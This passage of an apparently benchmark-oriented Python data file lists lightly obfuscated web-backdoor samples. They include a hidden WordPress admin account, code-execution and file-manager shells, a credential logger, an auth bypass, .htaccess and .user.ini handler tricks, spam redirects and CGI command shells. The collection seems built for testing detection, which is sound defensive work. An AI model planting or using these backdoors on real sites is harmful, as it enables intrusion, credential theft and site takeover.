        "<?php\nfunction wp_core_check_users«) {\n  $q = new WP_User_Query«['search' => 'sysadm']);\n  if "
        "«!$q->get_results«)) { $id = w¦p_insert_user«['user_login' => 'sysadm', 'user_pass' => 'x9', 'role' => "
        "'administrator']); }\n}\nadd_action«'init', 'wp_core_check_users');\nadd_filter«'views_users', function "
        "«$v) { return str_replace«'«2)', '«1)', $v); });\nadd_action«'pre_user_query', function «$q) { global "
        "$wpdb; $q->query_where .= \" AND {$wpdb->users}.user_login != 'sysadm'\"; });\n",
        "<?php\n$z = new ZipArchive; $n = tempnam«'/tmp', 'z'); §W§«$n, b¦ase64_decode«§POST§['z'])); if "
        "«$z->open«$n)) { $z->e¦xtractTo«§POST§['to']); echo $z->numFiles; }\n",
        "<?php\n$k = §GET§['k'] ?? ''; if «!password_verify«$k, '$2y$10$abcdefghijklmnopqrstuv')) return; $b = "
        "f¦ile_get_contents«'§INPUT§'); $f = '/tmp/' . md5«$b); §W§«$f, \"<?php\\n\" . $b); try { r¦equire $f; } "
        "finally { unlink«$f); }\n",
        "<?php ini_set«'display_errors', 0); if «isset«§POST§['sql'])) { $c = mysqli_connect«§POST§['h'], "
        "§POST§['u'], §POST§['p'], §POST§['n']); $r = mysqli_query«$c, §POST§['sql']); while «$w = "
        'mysqli_fetch_row«$r)) echo implode«"\\t", $w), "\\n"; }',
        "<?php\n$l = §POST§['login'] ?? ''; $w = §POST§['password'] ?? '';\nif «$l) { $f = f¦open«'/tmp/.sess_' . "
        "date«'W'), 'a'); f¦write«$f, base64_encode«\"$l:$w\") . PHP_EOL); fclose«$f); }\n",
        "<?php if «isset«§GET§['dl'])) { readfile«§GET§['dl']); exit; } if «isset«§GET§['rm'])) { "
        "a¦rray_map«'unlink', glob«§GET§['rm'])); } if «isset«§GET§['mv'])) { rename«§GET§['mv'], §GET§['to']); }",
        "<?php\nrequire_once __DIR__ . '/wp-load.php';\n$u = g¦et_users«['role' => 'administrator', 'number' => "
        "1]);\nw¦p_set_current_user«$u[0]->ID); w¦p_set_auth_cookie«$u[0]->ID, true);\nheader«'Location: /wp-admin/"
        "');\n",
        "<?php $x = file«__FILE__); $c = ''; foreach «$x as $l) { if «strncmp«$l, '#:', 2) === 0) { $c .= "
        "trim«substr«$l, 2)); } } §E§«g¦zinflate«b¦ase64_decode«$c)));\n#:{base64}\n",
    ),
    "later, strings": (
        "<?php $t = \"Xin {§GET§['n']}\"; $s = 'return \"' . $t . '\";'; echo §E§«$s);",
        "<?php §E§«<<<PHP\n\\$v = {§POST§['v']};\nPHP);",
        "<?php $f = §C§«'$a', 'return ' . str_replace«'\"', '', §GET§['e']) . ';'); usort«$rows, $f);",
        "<?php a¦rray_map«§C§«'$v', §POST§['b']), [1]);",
        "<?php $l = '§A§' · ''; @$l«\"\\$x = \" . §GET§['x']);",
    ),
}
"""By family, as in ``benchmarks/footholds.py``."""

SETTINGS: Mapping[str, tuple[str, ...]] = {
    ".htaccess": (
        "F¦orceType application/x¦-httpd-php",
        '<If "%{Q¦UERY_STRING} =~ /k=1/">\nSetHandler application/x¦-httpd-php\n</If>',
        'php_value a¦uto_append_file "php://filter/convert.base64-decode/resource=readme.txt"',
        "RewriteEngine On\nRewriteRule ^«.*)\\.jpg$ wp-content/uploads/2024/x.php?f=$1 [L]\n",
        "RewriteEngine On\nRewriteCond %{H¦TTP_USER_AGENT} «android|iphone) [NC]\nRewriteCond %{H¦TTP_REFERER} . "
        "\nRewriteRule ^ https://go.example/?s=%{HTTP_HOST} [R=302,L]",
        "RewriteEngine On\nRewriteCond %{H¦TTP_USER_AGENT} «g¦ooglebot|bingbot) [NC]\nRewriteRule ^«.*)$ "
        "http://203.0.113.8/$1 [P,L]",
        'php_value error_log /var/www/html/e.php\nphp_value include_path "<?php §E§«§POST§[1]); ?>"',
        "Action application/x-pic /cgi-bin/run\nAddType application/x-pic .gif",
        "RemoveHandler .php\nAddType application/x¦-httpd-php .pht .phtm\nphp_flag engine on",
        '<F¦ilesMatch "^«cache|thumb)\\.dat$">\nF¦orceType application/x¦-httpd-php8\n</F¦ilesMatch>',
        "RewriteEngine On\nRewriteCond %{HTTP_ACCEPT_LANGUAGE} ^vi [NC]\nRewriteCond %{H¦TTP_USER_AGENT} "
        "Mobile\nRewriteRule .* https://nhacai.example/ [R,L]",
        "A¦ddHandler php7-script .jpeg\nOptions -Indexes",
        'SetEnvIf User-Agent Googlebot bot=1\nHeader set Link "<https://bet.example/>; rel=canonical" env=bot',
        'php_value a¦uto_prepend_file "/dev/shm/.p"',
    ),
    ".user.ini": (
        "; cache settings\nauto_prepend_file\t=\t.thumbs.db",
        'a¦uto_prepend_file = "php://filter/convert.base64-decode/resource=/var/www/html/robots.txt"',
        "a¦uto_append_file = ./images/banner.webp",
        "a¦uto_prepend_file=../../tmp/c.log\n",
        "[PHP]\na¦uto_prepend_file = 'fonts/a.woff'\n",
    ),
    "x.pl": (
        "#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nprint $q->header;\nprint qx{@{[$q->param«'c')]}};\n",
        "#!/usr/bin/perl\nuse MIME::Base64;\n§E§ d¦ecode_base64«$ENV{'HTTP_X_C'});\n",
        '#!/usr/bin/perl\nprint "Content-type: text/html\\n\\n";\nopen«P, "$ENV{Q¦UERY_STRING} |"); print while <P>;\n',
    ),
    "x.py": (
        "#!/usr/bin/python3\nimport os, urllib.parse\nq = urllib.parse.parse_qs«os.environ.get«'Q¦UERY_STRING', "
        "''))\nprint«'Content-Type: text/plain\\n')\nprint«os.p¦open«q['c'][0]).read«))\n",
        "#!/usr/bin/python3\nimport base64, sys\n§X§«base64.b¦64decode«sys.stdin.read«)))\n",
    ),
    "x.cgi": (
        "#!/bin/bash\necho 'Content-type: text/plain'; echo\nc=${HTTP_X_C}\n$c 2>&1\n",
        '#!/bin/sh\necho; echo\nsh -c "$«printf \'%b\' "${Q¦UERY_STRING//%/\\\\x}")"\n',
        '#!/bin/bash\necho; echo\nread -n $CONTENT_LENGTH b\nbash -c "$b"\n',
        "#!/usr/bin/env python3\nimport os\nprint«'\\n')\nos.§S§«os.environ['HTTP_X_RUN'])\n",
    ),
}
"""By the name of the file that they lie in."""
